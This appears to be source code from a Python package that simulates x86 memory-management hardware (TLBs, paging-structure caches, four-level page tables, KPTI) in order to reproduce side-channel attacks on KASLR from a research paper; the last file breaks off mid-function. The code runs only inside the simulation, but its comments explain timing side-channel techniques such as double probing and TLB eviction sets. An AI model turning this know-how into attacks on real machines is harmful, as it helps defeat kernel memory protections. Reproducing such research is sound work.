    Mirrors the x86 page-fault error code semantics that matter here:

    * ``present``  -- the fault was caused by a protection violation on a
      present page (True) or by a non-present page (False).
    * ``write``    -- the faulting access was a write.
    * ``user``     -- the access originated in user mode (CPL 3).
    """

    def __init__(self, address, present=False, write=False, user=True):
        self.address = address
        self.present = present
        self.write = write
        self.user = user
        super().__init__(
            "#PF at {:#x} (present={}, write={}, user={})".format(
                address, present, write, user
            )
        )


class ConfigError(ReproError):
    """An invalid machine / CPU / OS configuration was requested."""


class AttackError(ReproError):
    """An attack could not run in the requested environment."""
