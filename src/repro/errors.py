"""Exception hierarchy for the repro package."""


class ReproError(Exception):
    """Base class for all errors raised by this package."""


class AddressError(ReproError):
    """A virtual or physical address is malformed (non-canonical, unaligned...)."""


class MappingError(ReproError):
    """A page-table mapping operation is invalid (overlap, missing page...)."""


class PageFault(ReproError):
    """Architectural #PF raised by an unsuppressed faulting access.

    Mirrors the x86 page-fault error code semantics that matter here:

    * ``present``  -- the fault was caused by a protection violation on a
      present page (True) or by a non-present page (False).
    * ``write``    -- the faulting access was a write.
    * ``user``     -- the access originated in user mode (CPL 3).
    """

    def __init__(self, address, present=False, write=False, user=True):
        self.address = address
        self.present = present
        self.write = write
        self.user = user
        super().__init__(
            "#PF at {:#x} (present={}, write={}, user={})".format(
                address, present, write, user
            )
        )


class ConfigError(ReproError):
    """An invalid machine / CPU / OS configuration was requested."""


class AttackError(ReproError):
    """An attack could not run in the requested environment."""


class CalibrationError(AttackError):
    """The self-calibration produced an implausible decision boundary.

    Raised by the supervisor's calibration sanity check when the measured
    store distribution is too wide or sits nowhere near the analytically
    expected assist mode -- the symptom of a disturbance (DVFS step,
    interrupt storm) landing inside the calibration window.
    """


class ProbeBudgetExceeded(AttackError):
    """An adaptive attack ran out of its probe/time budget.

    Carries how much was spent so the supervisor can fold it into the
    final verdict instead of surfacing a traceback.
    """

    def __init__(self, message, probes_spent=0, elapsed_ms=0.0):
        self.probes_spent = probes_spent
        self.elapsed_ms = elapsed_ms
        super().__init__(message)


class DisturbanceAbort(AttackError):
    """An attempt was aborted because a disturbance invalidated its data.

    The canonical case is a mid-scan KASLR re-randomization: every timing
    collected before the event refers to a layout that no longer exists,
    so the attempt is discarded and retried rather than scored.
    """


class CampaignError(ReproError):
    """A campaign cannot start, resume, or record its state."""


class JournalCorrupt(CampaignError):
    """The write-ahead journal is damaged beyond a torn tail.

    A partially-written final record is expected after a crash and is
    silently truncated on replay; a record that fails its checksum (or
    will not parse) *mid-file* means the journal was edited or the disk
    lied, and resuming from it would silently drop completed work.
    ``hint`` (when set) names the recovery verb -- ``repro campaign
    fsck`` quarantines the damaged file and salvages the intact
    records -- and is surfaced in the CLI's structured JSON error.
    """

    def __init__(self, message, line_number=None, hint=None):
        self.line_number = line_number
        self.hint = hint
        super().__init__(message)


class JournalConflict(CampaignError):
    """Two journaled finishes disagree about the same unit.

    Duplicate ``unit-finish`` records are expected (a crash between the
    append and its acknowledgement replays as two identical finishes)
    and replay keeps the first.  Two finishes with *different* result
    digests, however, mean the journal mixes two different
    configurations -- or a corrupted record slipped past its checksum --
    and picking whichever landed first would silently serve wrong
    results.
    """

    def __init__(self, message, unit=None):
        self.unit = unit
        super().__init__(message)


class JournalWriteError(CampaignError):
    """A durable journal append failed (disk full, I/O error, torn write).

    The journal repairs its tail back to the last intact record and
    refuses further appends; the owning fault domain (a campaign shard)
    is quarantined and its pending work re-assigned, rather than risking
    a half-written record being replayed as state.
    """

    def __init__(self, message, errno=None, path=None):
        self.errno = errno
        self.path = str(path) if path is not None else None
        super().__init__(message)


class ShardError(CampaignError):
    """A campaign shard (one fault domain) failed and was quarantined."""

    def __init__(self, message, shard=None):
        self.shard = shard
        super().__init__(message)


class WatchdogTimeout(CampaignError):
    """A worker exceeded its per-unit wall-clock watchdog and was killed."""


class ServeError(ReproError):
    """The attack-simulation service cannot accept or finish a request."""


class ProtocolError(ServeError):
    """A repro-serve/v1 message is malformed or out of sequence.

    Raised server-side on unparseable lines, unknown message types and
    missing required fields; surfaced to the client as a typed
    ``error`` message rather than a dropped connection, so a buggy
    client learns *what* it sent wrong.
    """


class QuotaExceeded(ServeError):
    """A tenant asked for more than its admission quota allows.

    Typed *rejection*, not failure: the request was never admitted, no
    state changed, and ``retry_after_s`` (when set) hints when capacity
    is likely to return.  ``tenant`` and ``quota`` name which limit was
    hit (``units-in-flight``, ``requests-in-flight``, ``deadline``).
    """

    def __init__(self, message, tenant=None, quota=None,
                 retry_after_s=None):
        self.tenant = tenant
        self.quota = quota
        self.retry_after_s = retry_after_s
        super().__init__(message)


class Overloaded(ServeError):
    """The service shed this request to protect the work it already holds.

    Raised when the bounded admission queue is full, when the circuit
    breaker is open after backend failures, or when the server is
    draining.  Like :class:`QuotaExceeded` this is a typed rejection:
    nothing was admitted, and the client should back off for
    ``retry_after_s`` (None means "after the drain completes").
    """

    def __init__(self, message, reason=None, retry_after_s=None):
        self.reason = reason
        self.retry_after_s = retry_after_s
        super().__init__(message)


class TraceError(ReproError):
    """A trace is malformed or the tracer was misused.

    Raised by the tracer on structural misuse (closing spans out of
    order, finishing with open spans) and by the schema validator when a
    trace file does not conform to ``repro-trace/v1``.
    """
