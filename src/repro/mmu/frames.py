"""Physical memory: frame allocation and sparse byte storage.

The simulator rarely needs real data, but the AVX masked load/store model
does move bytes, so :class:`PhysicalMemory` stores page contents sparsely
(untouched memory reads as zero, like freshly allocated frames under an OS
that zero-fills).
"""

from repro.errors import MappingError
from repro.mmu.address import PAGE_SHIFT, PAGE_SIZE


class FrameAllocator:
    """Hands out physical frame numbers (PFNs) monotonically.

    Frames are never reused after :meth:`free`; this keeps stale TLB/PSC
    entries harmless in tests and mirrors how the attacks never rely on
    frame reuse.
    """

    def __init__(self, first_pfn=0x100):
        self._next_pfn = first_pfn
        self._allocated = set()

    def alloc(self, count=1):
        """Allocate ``count`` consecutive frames, returning the first PFN."""
        if count < 1:
            raise MappingError("cannot allocate {} frames".format(count))
        pfn = self._next_pfn
        self._next_pfn += count
        for i in range(count):
            self._allocated.add(pfn + i)
        return pfn

    def free(self, pfn, count=1):
        """Release ``count`` frames starting at ``pfn``."""
        for i in range(count):
            self._allocated.discard(pfn + i)

    def is_allocated(self, pfn):
        """Return True if ``pfn`` is currently allocated."""
        return pfn in self._allocated

    @property
    def allocated_count(self):
        return len(self._allocated)


class PhysicalMemory:
    """Sparse byte-addressable physical memory.

    Pages materialize on first write; reads from untouched pages return
    zero bytes.
    """

    def __init__(self):
        self._pages = {}

    def _page(self, pfn, create):
        page = self._pages.get(pfn)
        if page is None and create:
            page = bytearray(PAGE_SIZE)
            self._pages[pfn] = page
        return page

    def read(self, pa, length):
        """Read ``length`` bytes starting at physical address ``pa``."""
        out = bytearray()
        while length > 0:
            pfn = pa >> PAGE_SHIFT
            offset = pa & (PAGE_SIZE - 1)
            chunk = min(length, PAGE_SIZE - offset)
            page = self._page(pfn, create=False)
            if page is None:
                out.extend(b"\x00" * chunk)
            else:
                out.extend(page[offset : offset + chunk])
            pa += chunk
            length -= chunk
        return bytes(out)

    def write(self, pa, data):
        """Write ``data`` starting at physical address ``pa``."""
        offset_in = 0
        length = len(data)
        while offset_in < length:
            pfn = pa >> PAGE_SHIFT
            offset = pa & (PAGE_SIZE - 1)
            chunk = min(length - offset_in, PAGE_SIZE - offset)
            page = self._page(pfn, create=True)
            page[offset : offset + chunk] = data[offset_in : offset_in + chunk]
            pa += chunk
            offset_in += chunk

    @property
    def touched_pages(self):
        """Number of physical pages that have ever been written."""
        return len(self._pages)
