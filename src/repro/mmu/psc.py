"""Intel-style paging-structure caches (PSCs).

PSCs cache *non-terminal, present* paging-structure entries so that a TLB
miss need not restart the walk at the PML4:

* PML4E cache : keyed by VA bits 47..39  -> skip to the PDPT
* PDPTE cache : keyed by VA bits 47..30  -> skip to the PD
* PDE cache   : keyed by VA bits 47..21  -> skip to the PT

Two properties the paper leans on are modelled faithfully:

1. PT entries are never cached ("Intel's paging-structure caches do not
   contain PT", paper P3) -- so translating a 4 KiB page always touches at
   least the PT in memory, making 4 KiB mappings slower than huge pages.
2. Only *present* entries are cached, so probing unmapped addresses never
   populates the PSC.

State-ownership / invariants relied on by the columnar engine
(``repro.cpu.columnar``):

* each level's cache is keyed by the *prefix* of the VA's radix indices
  -- ``tuple(indices[:level+1])`` -- and stores the child ``node_id``.
  Two VAs share a cached entry exactly when their index prefixes match,
  which is why the engine groups rows by their node chain;
* because only non-terminal present entries are ever filled, and
  directory entries in this model never later become terminal or
  absent (mutations replace whole subtrees), a cached entry can never
  go *semantically* stale -- ``deepest_hit`` on an interior row of a
  uniform run returns the same level as its run-first row, so skipping
  the call is side-effect-free apart from LRU refresh, and an LRU
  refresh of an already-MRU key is a no-op;
* ``_LRUCache`` order is the only replacement state (OrderedDict,
  front = eviction victim); capacities below 1 would make every fill
  immediately evict, which the columnar engine treats as a delegation
  reason rather than modelling.
"""

from collections import OrderedDict


class _LRUCache:
    """Tiny LRU map with a fixed capacity."""

    def __init__(self, capacity):
        self.capacity = capacity
        self._entries = OrderedDict()

    def get(self, key):
        value = self._entries.get(key)
        if value is not None:
            self._entries.move_to_end(key)
        return value

    def put(self, key, value):
        if key in self._entries:
            self._entries.move_to_end(key)
        self._entries[key] = value
        while len(self._entries) > self.capacity:
            self._entries.popitem(last=False)

    def discard_prefix(self, prefix):
        stale = [k for k in self._entries if k[: len(prefix)] == prefix]
        for key in stale:
            del self._entries[key]

    def clear(self):
        self._entries.clear()

    def __len__(self):
        return len(self._entries)

    def __contains__(self, key):
        return key in self._entries


class PagingStructureCache:
    """The trio of PML4E/PDPTE/PDE caches of one logical core."""

    #: number of VA index components forming the key of each cache level
    _KEY_LEN = {0: 1, 1: 2, 2: 3}

    def __init__(self, pml4e_entries=4, pdpte_entries=4, pde_entries=32):
        self._caches = {
            0: _LRUCache(pml4e_entries),
            1: _LRUCache(pdpte_entries),
            2: _LRUCache(pde_entries),
        }

    def deepest_hit(self, indices):
        """Return the deepest cached level for ``indices`` (or None).

        A hit at level L means the walker can resume at level L+1.  Checks
        deepest-first, like hardware.
        """
        for level in (2, 1, 0):
            key = tuple(indices[: self._KEY_LEN[level]])
            if self._caches[level].get(key) is not None:
                return level
        return None

    def fill(self, indices, level, node_id):
        """Cache the present non-terminal entry observed at ``level``.

        ``node_id`` identifies the child structure the entry points to.
        Level 3 (PT) fills are silently ignored: hardware never caches
        terminal-level PT entries here.
        """
        if level not in self._caches:
            return
        key = tuple(indices[: self._KEY_LEN[level]])
        self._caches[level].put(key, node_id)

    def invalidate_address(self, indices):
        """INVLPG semantics: drop cached entries covering this address."""
        for level, cache in self._caches.items():
            cache.discard_prefix(tuple(indices[: self._KEY_LEN[level]]))

    def flush(self):
        """Drop everything (MOV CR3 without PCID, or explicit flush)."""
        for cache in self._caches.values():
            cache.clear()

    def occupancy(self):
        """Return {level: entry count} for inspection in tests."""
        return {level: len(cache) for level, cache in self._caches.items()}


class PagingLineCache:
    """Models whether the cache line holding a paging-structure entry is hot.

    Page-table entries are ordinary cacheable memory; a walk that finds its
    entries in the data cache costs tens of cycles less per level than one
    that misses to DRAM.  Entries are 8 bytes, so one 64-byte line covers 8
    adjacent slots of a structure.

    The line key is ``(node_id, index >> 3)``: sequential VAs walking the
    same structure share a line for every 8 consecutive slots.  The
    columnar engine's *group* boundaries are exactly the rows where this
    key changes at the terminal level -- interior rows of a group access
    a line that the group-first row just made hot *and* MRU, so their
    ``access`` calls are closed-form hot hits with no LRU movement.
    """

    def __init__(self, capacity_lines=1024):
        self._lines = _LRUCache(capacity_lines)

    @staticmethod
    def _line_key(node_id, index):
        return (node_id, index >> 3)

    def access(self, node_id, index):
        """Touch the line for (structure, slot); return True if it was hot."""
        key = self._line_key(node_id, index)
        hot = key in self._lines
        self._lines.put(key, True)
        return hot

    def is_hot(self, node_id, index):
        """Non-destructive hotness check (does not update LRU)."""
        return self._line_key(node_id, index) in self._lines

    def flush(self):
        self._lines.clear()

    def __len__(self):
        return len(self._lines)
