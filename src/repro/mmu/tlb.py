"""Set-associative translation lookaside buffers.

The model mirrors a contemporary Intel core:

* L1 dTLB, split by page size (64 x 4 KiB entries, 32 x 2 MiB, 4 x 1 GiB),
* a unified second-level sTLB shared by 4 KiB and 2 MiB translations.

Only successful (present) translations are cached -- a non-present page
never creates a TLB entry, which is precisely why the paper's double-probe
trick (P2) works: the second access to a mapped page is a TLB hit while the
second access to an unmapped page walks again.

State-ownership / invariants (the columnar engine's SoA compiler,
``repro.cpu.columnar``, derives its array layout from these; keep them
accurate when changing this file):

* each :class:`TLB` array owns exactly ``sets`` buckets; an entry for
  ``vpn`` can only ever live in bucket ``vpn % sets`` (linear indexing,
  no hashing), so a whole array is describable as per-set lists;
* replacement state is *positional*: a bucket is a plain list ordered
  LRU-first / MRU-last.  ``lookup`` refreshes by move-to-back,
  ``fill`` evicts ``bucket[0]``.  There is no other metadata -- the
  list order IS the replacement state, which is what lets the columnar
  engine replay a window of fills as ``(bucket + fills)[-ways:]``;
* re-filling an already-cached ``(vpn, page_size)`` replaces in place
  and refreshes, and notably matches *regardless of asid* (hardware
  replaces the stale tagged entry rather than duplicating it);
* a lookup that hits refreshes only the hit array; sTLB hits are
  additionally promoted into L1 by :meth:`TwoLevelTLB.lookup`.
"""

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_1G, PAGE_SIZE_2M


class TLBEntry:
    """One cached translation.

    ``asid`` is the PCID tag: with kernel page-table isolation plus PCID,
    kernel- and user-mode translations coexist in the TLB under different
    tags, and a lookup only matches entries of the active tag (or global
    ones).  Tag 0 is the default shared space used when PCID is off.
    """

    __slots__ = ("vpn", "pfn", "flags", "page_size", "is_global", "asid")

    def __init__(self, vpn, pfn, flags, page_size, is_global=False, asid=0):
        self.vpn = vpn
        self.pfn = pfn
        self.flags = flags
        self.page_size = page_size
        self.is_global = is_global
        self.asid = asid

    def __repr__(self):
        return "TLBEntry(vpn={:#x}, size={:#x})".format(
            self.vpn, self.page_size
        )


class TLB:
    """A single set-associative TLB array for one page size (or unified).

    ``entries`` / ``ways`` define the geometry; the set index is taken from
    the low bits of the VPN, the standard linear-indexing scheme that makes
    software eviction sets possible (paper's TLB attack uses one).

    Owned state: ``_sets`` (one LRU-ordered list of :class:`TLBEntry`
    per set, front = LRU victim, back = MRU) and the cumulative
    ``hits`` / ``misses`` counters.  Nothing else persists between
    calls; two arrays with equal ``_sets`` contents and counters are
    behaviourally identical, which is the equality the columnar
    engine's bucket-replay relies on.
    """

    def __init__(self, entries, ways, name="tlb"):
        if entries % ways:
            raise ValueError("entries must be a multiple of ways")
        self.name = name
        self.ways = ways
        self.sets = entries // ways
        self._sets = [[] for _ in range(self.sets)]
        self.hits = 0
        self.misses = 0

    def _set_index(self, vpn):
        return vpn % self.sets

    def lookup(self, vpn, page_size, asid=None):
        """Return the matching entry (refreshing LRU) or None.

        ``asid=None`` ignores tags (legacy / PCID-off behaviour); with a
        tag, only same-tag or global entries match.
        """
        bucket = self._sets[self._set_index(vpn)]
        for i, entry in enumerate(bucket):
            if entry.vpn == vpn and entry.page_size == page_size and (
                asid is None or entry.asid == asid or entry.is_global
            ):
                bucket.append(bucket.pop(i))
                self.hits += 1
                return entry
        self.misses += 1
        return None

    def fill(self, entry):
        """Insert ``entry``, evicting the LRU way if the set is full.

        The in-place-replace branch matches on ``(vpn, page_size)``
        only -- deliberately ignoring ``asid`` -- so a refill under a
        new tag displaces the stale one.  The columnar engine's window
        eligibility check (condition B) quotes exactly this rule: a
        candidate fill whose key matches any cached key of *any* asid
        would mutate a bucket mid-window and forces per-row fallback.
        """
        bucket = self._sets[self._set_index(entry.vpn)]
        for i, existing in enumerate(bucket):
            if existing.vpn == entry.vpn and existing.page_size == entry.page_size:
                bucket[i] = entry
                bucket.append(bucket.pop(i))
                return
        if len(bucket) >= self.ways:
            bucket.pop(0)
        bucket.append(entry)

    def invalidate(self, vpn, page_size):
        """Drop the entry for (vpn, page_size) if cached."""
        bucket = self._sets[self._set_index(vpn)]
        self._sets[self._set_index(vpn)] = [
            e for e in bucket if not (e.vpn == vpn and e.page_size == page_size)
        ]

    def flush(self, keep_global=False):
        """Drop all entries (optionally sparing global ones, as MOV CR3 does)."""
        for i, bucket in enumerate(self._sets):
            if keep_global:
                self._sets[i] = [e for e in bucket if e.is_global]
            else:
                self._sets[i] = []

    def occupancy(self):
        return sum(len(bucket) for bucket in self._sets)

    def stats(self):
        """``(hits, misses)`` accumulated since construction."""
        return (self.hits, self.misses)

    def conflicting_vpns(self, vpn, count):
        """Yield ``count`` distinct VPNs mapping to the same set as ``vpn``.

        These are the addresses a software eviction set must touch; the
        attacker-side eviction helper uses them.
        """
        step = self.sets
        for i in range(1, count + 1):
            yield vpn + i * step


class TwoLevelTLB:
    """L1 (per page size) + unified sTLB, with a simple inclusive policy."""

    def __init__(
        self,
        l1_4k=(64, 4),
        l1_2m=(32, 4),
        l1_1g=(4, 4),
        stlb=(1536, 12),
    ):
        #: the PCID tag translations are looked up and filled under;
        #: stays 0 unless the OS model runs with KPTI + PCID
        self.active_asid = 0
        self.l1 = {
            PAGE_SIZE: TLB(*l1_4k, name="dtlb-4k"),
            PAGE_SIZE_2M: TLB(*l1_2m, name="dtlb-2m"),
            PAGE_SIZE_1G: TLB(*l1_1g, name="dtlb-1g"),
        }
        self.stlb = TLB(*stlb, name="stlb")

    @staticmethod
    def _vpn(va, page_size):
        return va // page_size

    def lookup(self, va, page_size_hint=None):
        """Look ``va`` up across page sizes and levels.

        Returns ``(entry, level)`` where level is "L1" or "L2", or
        ``(None, None)`` on a full miss.  An sTLB hit is promoted into the
        appropriate L1 array, as hardware does.  Matching respects the
        active PCID tag.

        ``page_size_hint`` (from a pre-resolved structural lookup, e.g.
        the batched engine's) probes that page size's arrays first so a
        hit costs one array scan instead of up to six; misses still fall
        through to every array, so results are unchanged.
        """
        asid = self.active_asid
        if page_size_hint in self.l1:
            entry = self.l1[page_size_hint].lookup(
                self._vpn(va, page_size_hint), page_size_hint, asid
            )
            if entry is not None:
                return entry, "L1"
        for page_size, l1 in self.l1.items():
            if page_size == page_size_hint:
                continue
            entry = l1.lookup(self._vpn(va, page_size), page_size, asid)
            if entry is not None:
                return entry, "L1"
        for page_size in (PAGE_SIZE, PAGE_SIZE_2M, PAGE_SIZE_1G):
            entry = self.stlb.lookup(
                self._vpn(va, page_size), page_size, asid
            )
            if entry is not None:
                self.l1[page_size].fill(entry)
                return entry, "L2"
        return None, None

    def holds(self, va, asid=None):
        """Non-counting containment check used by tests and the spy model.

        ``asid=None`` checks under the active tag; pass a tag explicitly
        to inspect another address space's entries.
        """
        if asid is None:
            asid = self.active_asid

        def matches(entry, vpn, page_size):
            return (
                entry.vpn == vpn and entry.page_size == page_size
                and (entry.asid == asid or entry.is_global)
            )

        for page_size, l1 in self.l1.items():
            vpn = self._vpn(va, page_size)
            bucket = l1._sets[l1._set_index(vpn)]
            if any(matches(e, vpn, page_size) for e in bucket):
                return True
        for page_size in (PAGE_SIZE, PAGE_SIZE_2M, PAGE_SIZE_1G):
            vpn = self._vpn(va, page_size)
            bucket = self.stlb._sets[self.stlb._set_index(vpn)]
            if any(matches(e, vpn, page_size) for e in bucket):
                return True
        return False

    def fill(self, translation, is_global=False):
        """Cache a completed translation in both levels (active tag)."""
        entry = TLBEntry(
            vpn=self._vpn(translation.va, translation.page_size),
            pfn=translation.pfn,
            flags=translation.flags,
            page_size=translation.page_size,
            is_global=is_global,
            asid=self.active_asid,
        )
        self.l1[translation.page_size].fill(entry)
        if translation.page_size in (PAGE_SIZE, PAGE_SIZE_2M):
            self.stlb.fill(entry)
        return entry

    def invalidate(self, va):
        """INVLPG: drop every entry that could translate ``va``."""
        for page_size, l1 in self.l1.items():
            l1.invalidate(self._vpn(va, page_size), page_size)
        for page_size in (PAGE_SIZE, PAGE_SIZE_2M):
            self.stlb.invalidate(self._vpn(va, page_size), page_size)

    def flush(self, keep_global=False):
        for l1 in self.l1.values():
            l1.flush(keep_global)
        self.stlb.flush(keep_global)

    def occupancy(self):
        return {
            "l1_4k": self.l1[PAGE_SIZE].occupancy(),
            "l1_2m": self.l1[PAGE_SIZE_2M].occupancy(),
            "l1_1g": self.l1[PAGE_SIZE_1G].occupancy(),
            "stlb": self.stlb.occupancy(),
        }

    def stats(self):
        """Hit/miss counters per array, keyed by the array's name.

        Read twice and differenced by :meth:`repro.obs.trace.Tracer`
        (snapshot at attach, delta at finish) so TLB hit rates reach the
        trace without any per-lookup instrumentation cost.
        """
        arrays = list(self.l1.values()) + [self.stlb]
        return {array.name: array.stats() for array in arrays}
