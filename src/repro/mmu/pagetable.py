"""4-level x86-64 page tables.

The hierarchy is PML4 -> PDPT -> PD -> PT.  Terminal mappings may live at

* PT level    : 4 KiB pages,
* PD level    : 2 MiB huge pages  (PS bit set),
* PDPT level  : 1 GiB huge pages  (PS bit set).

Each paging-structure node carries a unique ``node_id`` standing in for the
physical address of the structure itself; the walker uses node ids to model
whether a walk's memory accesses hit the data cache (hot) or go to DRAM
(cold) -- the effect behind the paper's 381-vs-147-cycle TLB-miss result.
"""

import itertools

from repro.errors import MappingError
from repro.mmu.frames import FrameAllocator, PhysicalMemory
from repro.mmu.address import (
    LEVEL_NAMES,
    PAGE_SIZE,
    PAGE_SIZE_1G,
    PAGE_SIZE_2M,
    check_canonical,
    is_aligned,
    split_indices,
)
from repro.mmu.flags import PageFlags

#: level index (0-based, top-down) at which each page size terminates
_LEVEL_OF_SIZE = {PAGE_SIZE_1G: 1, PAGE_SIZE_2M: 2, PAGE_SIZE: 3}
_SIZE_OF_LEVEL = {1: PAGE_SIZE_1G, 2: PAGE_SIZE_2M, 3: PAGE_SIZE}

_node_ids = itertools.count(1)

#: permissive flags used for non-terminal (directory) entries, mirroring
#: how Linux sets intermediate entries maximally permissive and enforces
#: permissions at the leaf.
_DIR_FLAGS = PageFlags.PRESENT | PageFlags.WRITABLE | PageFlags.USER


class Entry:
    """One slot of a paging structure: either a directory or a leaf."""

    __slots__ = ("flags", "pfn", "child")

    def __init__(self, flags=PageFlags.NONE, pfn=None, child=None):
        self.flags = flags
        self.pfn = pfn
        self.child = child

    @property
    def is_terminal(self):
        return self.child is None


class Node:
    """One paging structure (512 entries, stored sparsely)."""

    __slots__ = ("node_id", "level", "entries")

    def __init__(self, level):
        self.node_id = next(_node_ids)
        self.level = level
        self.entries = {}

    def get(self, index):
        return self.entries.get(index)

    def ensure_child(self, index):
        entry = self.entries.get(index)
        if entry is None:
            entry = Entry(flags=_DIR_FLAGS, child=Node(self.level + 1))
            self.entries[index] = entry
        elif entry.child is None:
            raise MappingError(
                "level-{} entry {} already terminal".format(self.level, index)
            )
        return entry.child


class Translation:
    """A successful virtual-to-physical translation."""

    __slots__ = ("va", "pfn", "flags", "page_size", "level")

    def __init__(self, va, pfn, flags, page_size, level):
        self.va = va
        self.pfn = pfn
        self.flags = flags
        self.page_size = page_size
        self.level = level

    @property
    def physical_address(self):
        offset = self.va & (self.page_size - 1)
        return self.pfn * PAGE_SIZE + offset

    @property
    def level_name(self):
        return LEVEL_NAMES[self.level]

    def __repr__(self):
        return "Translation(va={:#x}, pfn={:#x}, {}, {})".format(
            self.va, self.pfn, self.flags.describe(), self.level_name
        )


class Lookup:
    """Structural walk outcome: translation or termination level.

    ``indices`` carries the per-level VA indices so consumers that hold a
    cached Lookup (the timed walker) need not recompute them.
    """

    __slots__ = ("translation", "terminal_level", "nodes", "indices")

    def __init__(self, translation, terminal_level, nodes, indices=None):
        self.translation = translation
        self.terminal_level = terminal_level
        self.nodes = nodes
        self.indices = indices

    @property
    def present(self):
        return self.translation is not None


#: Global structural-mutation counter.  It is bumped by *any* mutation of
#: *any* page table; per-table lookup caches are tagged with the value
#: they were filled under and dropped wholesale when it moves.  A global
#: counter (rather than per-table) keeps aliased subtrees correct: KPTI
#: tables share PML4 slots via :meth:`PageTable.share_top_level_from`, so
#: a mutation through one table must invalidate lookups cached by the
#: other.
_mutation_generation = 0


def _bump_generation():
    global _mutation_generation
    _mutation_generation += 1


class PageTable:
    """A full 4-level page-table tree rooted at a PML4.

    Repeated structural lookups of the same VA are memoized in a
    generation-tagged cache: probe sweeps hit the same addresses over and
    over, and the radix traversal dominates their cost.  Any mutation
    (``map``/``unmap``/``protect``/flag updates/top-level sharing) bumps
    the global generation, which drops every table's cached lookups.
    """

    def __init__(self):
        self.root = Node(level=0)
        self._lookup_cache = {}
        self._cache_generation = _mutation_generation

    # -- construction -----------------------------------------------------

    def map(self, va, pfn, flags, page_size=PAGE_SIZE):
        """Install a terminal mapping of ``page_size`` bytes at ``va``."""
        va = check_canonical(va)
        if page_size not in _LEVEL_OF_SIZE:
            raise MappingError("unsupported page size {:#x}".format(page_size))
        if not is_aligned(va, page_size):
            raise MappingError(
                "va {:#x} not aligned to page size {:#x}".format(va, page_size)
            )
        if not flags & PageFlags.PRESENT:
            raise MappingError("terminal mappings must be PRESENT")
        terminal_level = _LEVEL_OF_SIZE[page_size]
        indices = split_indices(va)
        node = self.root
        for level in range(terminal_level):
            node = node.ensure_child(indices[level])
        index = indices[terminal_level]
        existing = node.get(index)
        if existing is not None and existing.flags & PageFlags.PRESENT:
            raise MappingError("va {:#x} already mapped".format(va))
        if page_size != PAGE_SIZE:
            flags |= PageFlags.HUGE
        node.entries[index] = Entry(flags=flags, pfn=pfn)
        _bump_generation()

    def unmap(self, va):
        """Remove the terminal mapping covering ``va``.

        Returns the page size of the removed mapping.  Intermediate
        structures are retained (as real kernels usually do), so a later
        walk of the same address terminates at the old terminal level.
        """
        node, index, entry, level = self._find_terminal(va)
        if entry is None:
            raise MappingError("va {:#x} is not mapped".format(va))
        del node.entries[index]
        _bump_generation()
        return _SIZE_OF_LEVEL[level]

    def protect(self, va, flags):
        """Replace the permission flags of the mapping covering ``va``."""
        node, index, entry, level = self._find_terminal(va)
        if entry is None:
            raise MappingError("va {:#x} is not mapped".format(va))
        keep = entry.flags & (PageFlags.HUGE | PageFlags.GLOBAL)
        if not flags & PageFlags.PRESENT:
            # PROT_NONE: drop the leaf, like Linux clearing the present bit.
            del node.entries[index]
            _bump_generation()
            return
        node.entries[index] = Entry(flags=flags | keep, pfn=entry.pfn)
        _bump_generation()

    def set_flag(self, va, flag):
        """OR ``flag`` into the terminal entry covering ``va`` (A/D bits)."""
        __, __, entry, __ = self._find_terminal(va)
        if entry is None:
            raise MappingError("va {:#x} is not mapped".format(va))
        if entry.flags & flag != flag:
            entry.flags |= flag
            _bump_generation()

    # -- lookup ------------------------------------------------------------

    def _find_terminal(self, va):
        """Return (node, index, entry, level) of the terminal entry, if any."""
        indices = split_indices(va)
        node = self.root
        for level in range(4):
            entry = node.get(indices[level])
            if entry is None:
                return node, indices[level], None, level
            if entry.is_terminal:
                return node, indices[level], entry, level
            node = entry.child
        raise MappingError("malformed page table at {:#x}".format(va))

    def lookup(self, va):
        """Walk structurally (no timing) and return a :class:`Lookup`.

        ``nodes`` lists the (level, node_id) pairs of every paging
        structure the hardware would read, in top-down order.  Results are
        memoized per VA until the next structural mutation.
        """
        if self._cache_generation != _mutation_generation:
            self._lookup_cache.clear()
            self._cache_generation = _mutation_generation
        else:
            cached = self._lookup_cache.get(va)
            if cached is not None:
                return cached
        result = self._lookup_uncached(va)
        self._lookup_cache[va] = result
        return result

    def _lookup_uncached(self, va):
        """The raw radix traversal behind :meth:`lookup` (never cached)."""
        va = check_canonical(va)
        indices = split_indices(va)
        node = self.root
        touched = []
        for level in range(4):
            touched.append((level, node.node_id))
            entry = node.get(indices[level])
            if entry is None or not entry.flags & PageFlags.PRESENT:
                return Lookup(None, level, touched, indices)
            if entry.is_terminal:
                translation = Translation(
                    va,
                    entry.pfn,
                    entry.flags,
                    _SIZE_OF_LEVEL[level],
                    level,
                )
                return Lookup(translation, level, touched, indices)
            node = entry.child
        raise MappingError("malformed page table at {:#x}".format(va))

    def is_mapped(self, va):
        """Return True if ``va`` has a present terminal mapping."""
        return self.lookup(va).present

    # -- sharing (KPTI) ----------------------------------------------------

    def share_top_level_from(self, other, pml4_index):
        """Alias one PML4 slot from ``other`` into this table.

        This is how kernels share the kernel half between per-process page
        tables: top-level entries point at the same lower structures.
        """
        entry = other.root.get(pml4_index)
        if entry is None:
            raise MappingError(
                "source PML4 slot {} is empty".format(pml4_index)
            )
        self.root.entries[pml4_index] = entry
        _bump_generation()

    def iter_terminal(self):
        """Yield (va_base, entry, page_size) for every present leaf."""

        def walk(node, prefix, level):
            for index, entry in sorted(node.entries.items()):
                va = prefix | (index << (39 - 9 * level))
                if entry.is_terminal:
                    if entry.flags & PageFlags.PRESENT:
                        base = va
                        if base >> 47 & 1:
                            base |= 0xFFFF_0000_0000_0000
                        yield base, entry, _SIZE_OF_LEVEL[level]
                else:
                    yield from walk(entry.child, va, level + 1)

        yield from walk(self.root, 0, 0)


class AddressSpace:
    """A page table bound to a frame allocator and physical memory.

    This is the unit the OS layer hands to processes (and, with KPTI, the
    pair of tables a process really has).
    """

    def __init__(self, frames=None, memory=None):
        self.page_table = PageTable()
        self.frames = frames if frames is not None else FrameAllocator()
        self.memory = memory if memory is not None else PhysicalMemory()

    def map_range(self, va, size, flags, page_size=PAGE_SIZE):
        """Map ``size`` bytes at ``va`` with fresh frames; return first PFN."""
        if size <= 0 or size % page_size:
            raise MappingError(
                "size {:#x} is not a multiple of page size".format(size)
            )
        count = size // page_size
        frames_per_page = page_size // PAGE_SIZE
        first = self.frames.alloc(count * frames_per_page)
        for i in range(count):
            self.page_table.map(
                va + i * page_size,
                first + i * frames_per_page,
                flags,
                page_size,
            )
        return first

    def unmap_range(self, va, size, page_size=PAGE_SIZE):
